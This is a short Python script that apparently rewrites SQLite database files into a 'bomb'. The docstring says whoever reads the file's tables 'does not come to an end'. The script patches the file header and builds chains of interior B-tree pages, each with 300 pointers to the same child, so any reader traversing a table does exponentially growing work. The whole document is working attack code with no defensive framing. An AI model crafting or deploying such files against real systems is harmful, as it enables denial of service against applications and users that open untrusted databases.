"""A file whose pages lead to each other: whoever reads its tables does not come to an end."""

import struct
from pathlib import Path
from typing import Final

PAGE: Final = 4096
_POINTERS: Final = 300
_RIGHTMOST: Final = slice(108, 112)


def make_endless(path: Path, levels: int = 6) -> None:
    data = bytearray(path.read_bytes())
    assert data[100] == 5, "its schema lies on more than one page"
    child = _led_to(data, bytes(data[_RIGHTMOST]), levels)
    data[_RIGHTMOST] = child
    _write(path, data)


def make_rows_endless(path: Path, root: int, levels: int = 4) -> None:
    data = bytearray(path.read_bytes())
    place = slice((root - 1) * PAGE, root * PAGE)
    assert data[place.start] == 13, "its rows lie on one page"
    data += data[place]
    data[place] = page_that_leads_to(_led_to(data, _last(data), levels - 1))
    _write(path, data)


def page_that_leads_to(child: bytes) -> bytes:
    cells = [child + bytes((1 + number % 100,)) for number in range(_POINTERS)]
    begin = PAGE - sum(map(len, cells))
    head = struct.pack(">BHHHB", 5, 0, _POINTERS, begin, 0) + child
    places = struct.pack(f">{_POINTERS}H", *range(begin, PAGE, len(cells[0])))
    return (head + places).ljust(begin, b"\0") + b"".join(cells)


def _led_to(data: bytearray, child: bytes, levels: int) -> bytes:
    for _ in range(levels):
        data += page_that_leads_to(child)
        child = _last(data)
    return child


def _last(data: bytearray) -> bytes:
    return struct.pack(">I", len(data) // PAGE)


def _write(path: Path, data: bytearray) -> None:
    data[28:32] = _last(data)
    data[24:28] = data[92:96]
    path.write_bytes(data)
